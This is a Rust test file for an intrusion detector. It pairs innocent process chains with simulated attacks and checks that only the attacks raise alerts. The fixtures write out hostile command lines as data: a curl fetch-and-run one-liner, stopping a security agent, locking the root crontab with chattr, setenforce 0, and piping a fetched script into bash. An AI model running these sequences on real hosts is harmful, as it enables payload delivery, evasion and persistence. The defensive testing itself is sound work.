//! What makes a chain of steps suspicious: each innocent job stands beside the attack that looks like it.

use crate::{
    model::{EventBody, InputFile, Inspection, ProcessKey, Verdict},
    testing::{Host, alerts, story},
};

/// A job: who starts it, and what it does.
type Job = fn(&mut Host, ProcessKey);

/// Lets `caller` fetch a program and run it. The program opens a connection.
fn fetch_and_run(host: &mut Host, caller: ProcessKey, url: &str, path: &str) {
    let curl = host.spawn(caller, "/usr/bin/curl", &["curl", "-fsSLo", path, url]);
    host.connect(curl, "198.51.100.7:443");
    host.create(curl, path, 0o644);
    host.exit(curl);
    host.chmod(caller, path, 0o755);
    run(host, caller, path);
}

/// Lets `service` fetch a program in its own code and run it. The program opens a connection.
fn extend(host: &mut Host, service: ProcessKey, path: &str) {
    host.connect(service, "198.51.100.7:443");
    host.create(service, path, 0o755);
    run(host, service, path);
}

fn run(host: &mut Host, caller: ProcessKey, path: &str) {
    let program = host.spawn(caller, path, &[path]);
    host.connect(program, "198.51.100.7:443");
}

/// Runs a tool to its end.
fn call(host: &mut Host, caller: ProcessKey, command: &str) {
    let words: Vec<&str> = command.split(' ').collect();
    let tool = host.spawn(caller, &format!("/usr/bin/{}", words[0]), &words);
    host.exit(tool);
}

fn shell(host: &mut Host, init: ProcessKey) -> ProcessKey {
    host.spawn_script(init, "/usr/bin/bash", "/opt/job.sh")
}

const NAMED: &str = "https://get.example.com/x";

/// What is done, the innocent job, and the attack beside it.
const JOBS: [(&str, Job, Job); 14] = [
    (
        "a runtime fetches and starts a program",
        |host, init| {
            let node = host.spawn(init, "/usr/bin/node", &["node", "/srv/pdf/server.js"]);
            extend(host, node, "/root/.cache/puppeteer/chrome/linux-120/chrome");
        },
        |host, init| {
            let node = host.spawn(init, "/usr/bin/node", &["node", "/srv/pdf/server.js"]);
            let shell = host.spawn(node, "/usr/bin/dash", &["sh", "-c", "curl -o /tmp/x https://x; /tmp/x"]);
            fetch_and_run(host, shell, NAMED, "/tmp/x");
        },
    ),
    (
        "a virtual machine starts what it fetched",
        |host, init| {
            let java = host.spawn(init, "/usr/bin/java", &["java", "Maven"]);
            extend(host, java, "/tmp/ws/target/protoc-plugins/protoc.exe");
        },
        |host, init| {
            // No shell is needed: each command is a process of its own.
            let java = host.spawn(init, "/usr/bin/java", &["java", "-jar", "wiki.jar"]);
            fetch_and_run(host, java, NAMED, "/tmp/x");
        },
    ),
    (
        "a database is unpacked",
        |host, init| {
            let java = host.spawn(init, "/usr/bin/java", &["java", "-jar", "test.jar"]);
            extend(host, java, "/tmp/embedded-pg/PG-1a2b/bin/postgres");
        },
        |host, init| {
            let shell = shell(host, init);
            fetch_and_run(host, shell, NAMED, "/tmp/postgres");
        },
    ),
    (
        "a package is installed",
        |host, init| {
            let npm = host.spawn(init, "/usr/bin/node", &["node", "/usr/bin/npm", "install"]);
            let shell = host.spawn(npm, "/usr/bin/dash", &["sh", "-c", "node install.js"]);
            let node = host.spawn(shell, "/usr/bin/node", &["node", "install.js"]);
            extend(host, node, "/tmp/build/node_modules/esbuild/bin/esbuild");
        },
        |host, init| {
            let npm = host.spawn(init, "/usr/bin/node", &["node", "/usr/bin/npm", "install"]);
            let shell = host.spawn(npm, "/usr/bin/dash", &["sh", "-c", "node install.js"]);
            let node = host.spawn(shell, "/usr/bin/node", &["node", "install.js"]);
            extend(host, node, "/tmp/.esbuild");
        },
    ),
    (
        "a task of a queue",
        |host, init| {
            let celery = host.spawn(init, "/usr/bin/python3", &["python3", "/usr/bin/celery", "worker"]);
            let shell = host.spawn(celery, "/usr/bin/dash", &["sh", "-c", "curl -o /tmp/ffmpeg https://x"]);
            fetch_and_run(host, shell, NAMED, "/tmp/ffmpeg");
        },
        |host, init| {
            let server = host.spawn(init, "/usr/bin/python3", &["python3", "/usr/bin/gunicorn", "app"]);
            let shell = host.spawn(server, "/usr/bin/dash", &["sh", "-c", "curl -o /tmp/x https://x"]);
            fetch_and_run(host, shell, NAMED, "/tmp/x");
        },
    ),
    (
        "a secret is decoded",
        |host, init| {
            let shell = shell(host, init);
            call(host, shell, "base64 -d");
            fetch_and_run(host, shell, NAMED, "/tmp/kubectl");
        },
        |host, init| {
            let shell = shell(host, init);
            let decoder = host.fork(shell);
            let code = host.spawn(shell, "/usr/bin/bash", &["bash"]);
            host.exec(decoder, shell, "/usr/bin/base64", "/usr/bin/base64", &["base64", "-d"]);
            host.exit(decoder);
            fetch_and_run(host, code, NAMED, "/tmp/kubectl");
        },
    ),
    (
        "a decoder writes a file",
        |host, init| {
            let shell = shell(host, init);
            let decoder = host.spawn(shell, "/usr/bin/base64", &["base64", "-d"]);
            host.create(decoder, "/etc/app/key.pem", 0o600);
            host.exit(decoder);
            fetch_and_run(host, shell, NAMED, "/tmp/app");
        },
        |host, init| {
            let shell = shell(host, init);
            let decoder = host.spawn(shell, "/usr/bin/base64", &["base64", "-d"]);
            host.create(decoder, "/tmp/app", 0o644);
            host.exit(decoder);
            host.chmod(shell, "/tmp/app", 0o755);
            run(host, shell, "/tmp/app");
        },
    ),
    (
        "a shell opens a connection",
        |host, init| {
            let shell = shell(host, init);
            let probe = host.fork(shell);
            host.connect(probe, "10.77.0.1:5432");
            host.exit(probe);
            fetch_and_run(host, shell, NAMED, "/tmp/migrate");
        },
        |host, init| {
            let shell = shell(host, init);
            host.connect(shell, "198.51.100.7:80");
            let cat = host.fork(shell);
            host.create(cat, "/tmp/migrate", 0o644);
            host.exec(cat, shell, "/usr/bin/cat", "/usr/bin/cat", &["cat"]);
            host.exit(cat);
            host.chmod(shell, "/tmp/migrate", 0o755);
            run(host, shell, "/tmp/migrate");
        },
    ),
    (
        "an applet of BusyBox fetches",
        |host, init| {
            let shell = host.spawn(init, "/bin/busybox", &["sh", "/opt/job.sh"]);
            let wget = host.spawn(shell, "/bin/busybox", &["wget", "-qO", "/tmp/dockerize", NAMED]);
            host.connect(wget, "198.51.100.7:443");
            host.create(wget, "/tmp/dockerize", 0o644);
            host.exit(wget);
            host.chmod(shell, "/tmp/dockerize", 0o755);
            run(host, shell, "/tmp/dockerize");
        },
        |host, init| {
            let shell = host.spawn(init, "/bin/busybox", &["sh", "/opt/job.sh"]);
            host.connect(shell, "198.51.100.7:443");
            host.create(shell, "/tmp/dockerize", 0o755);
            run(host, shell, "/tmp/dockerize");
        },
    ),
    (
        "a hidden directory",
        |host, init| {
            let shell = shell(host, init);
            fetch_and_run(host, shell, NAMED, "/root/.fly/bin/flyctl");
        },
        |host, init| {
            let shell = shell(host, init);
            fetch_and_run(host, shell, NAMED, "/root/.fly/.x/flyctl");
        },
    ),
    (
        "a hidden temporary directory, called by cron",
        |host, init| run_by_cron(host, init, "/tmp/etl/.venv/bin/tool"),
        |host, init| run_by_cron(host, init, "/tmp/etl/.v/bin/tool"),
    ),
    (
        "a defence is stopped",
        |host, init| call_and_run(host, init, "systemctl stop auditd", "/tmp/packer-report"),
        |host, init| call_and_run(host, init, "systemctl stop aliyun.service", "/tmp/packer-report"),
    ),
    (
        "a file is made immutable",
        |host, init| call_and_run(host, init, "chattr +i /etc/resolv.conf", "/tmp/agent"),
        |host, init| call_and_run(host, init, "chattr +i /var/spool/cron/root", "/tmp/agent"),
    ),
    (
        "a script in shared memory",
        |host, init| {
            let shell = shell(host, init);
            host.create(shell, "/dev/shm/launcher.sh", 0o755);
            let script = host.spawn_script(shell, "/usr/bin/bash", "/dev/shm/launcher.sh");
            call_home(host, script);
        },
        |host, init| {
            let shell = shell(host, init);
            let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "-o", "/dev/shm/launcher.sh", NAMED]);
            host.connect(curl, "198.51.100.7:443");
            host.create(curl, "/dev/shm/launcher.sh", 0o755);
            host.exit(curl);
            let script = host.spawn_script(shell, "/usr/bin/bash", "/dev/shm/launcher.sh");
            call_home(host, script);
        },
    ),
];

/// Lets a shell call a tool, and then fetch a program and run it.
fn call_and_run(host: &mut Host, init: ProcessKey, command: &str, program: &str) {
    let shell = shell(host, init);
    call(host, shell, command);
    fetch_and_run(host, shell, NAMED, program);
}

/// Lets a job of cron fetch a program and run it.
fn run_by_cron(host: &mut Host, init: ProcessKey, program: &str) {
    let cron = host.spawn(init, "/usr/sbin/cron", &["cron"]);
    let shell = host.spawn(cron, "/usr/bin/dash", &["sh", "-c", "/opt/etl.sh"]);
    fetch_and_run(host, shell, NAMED, program);
}

fn call_home(host: &mut Host, caller: ProcessKey) {
    let curl = host.spawn(caller, "/usr/bin/curl", &["curl", "-s", "https://api.example.com/"]);
    host.connect(curl, "198.51.100.7:443");
    host.exit(curl);
}

#[test]
fn only_disguise_and_force_make_a_chain_suspicious() {
    let mut wrong = Vec::new();
    for (name, innocent, attack) in JOBS {
        for (job, is_attack) in [(innocent, false), (attack, true)] {
            let mut host = Host::new();
            let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
            job(&mut host, init);
            let alerts = alerts(&host);
            if alerts.iter().any(|alert| alert.verdict >= Verdict::Suspected) != is_attack {
                wrong.push(format!("{name}: {}", story(&alerts)));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A weak sign does not suffice alone, but three do.
#[test]
fn a_host_without_its_own_defences_and_a_bare_address_are_suspicious() {
    let mut host = Host::new();
    let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
    let shell = shell(&mut host, init);
    call(&mut host, shell, "setenforce 0");
    fetch_and_run(&mut host, shell, "http://203.0.113.10/x", "/tmp/x");
    let alerts = alerts(&host);
    assert!(alerts.iter().any(|alert| alert.verdict == Verdict::Suspected), "{}", story(&alerts));
}

/// The kernel does not say what an interpreter reads. The closer look comes after what the script did.
#[test]
fn a_fetched_script_on_standard_input_is_a_script_like_others() {
    for command in [&["bash"][..], &["bash", "/dev/stdin"], &["perl"]] {
        let mut host = Host::new();
        let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
        let shell = shell(&mut host, init);
        let url = "http://203.0.113.10/x";
        let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "-so", "/tmp/x", url]);
        host.connect(curl, "203.0.113.10:80");
        host.create(curl, "/tmp/x", 0o644);
        host.exit(curl);
        let reader = host.spawn(shell, &format!("/usr/bin/{}", command[0]), command);
        host.connect(reader, "203.0.113.10:9000");
        host.create(reader, "/etc/cron.d/sync", 0o644);
        let input = Some(InputFile { path: "/tmp/x".into(), file: host.file("/tmp/x") });
        host.happen(reader, EventBody::Inspection(Box::new(Inspection { input, ..Inspection::default() })));
        let alerts = alerts(&host);
        let last = alerts.last().expect("an alert");
        assert_eq!(last.verdict, Verdict::Suspected, "{command:?}: {}", story(&alerts));
        assert!(last.message.contains("/tmp/x"), "{command:?}: {}", last.message);
    }
}
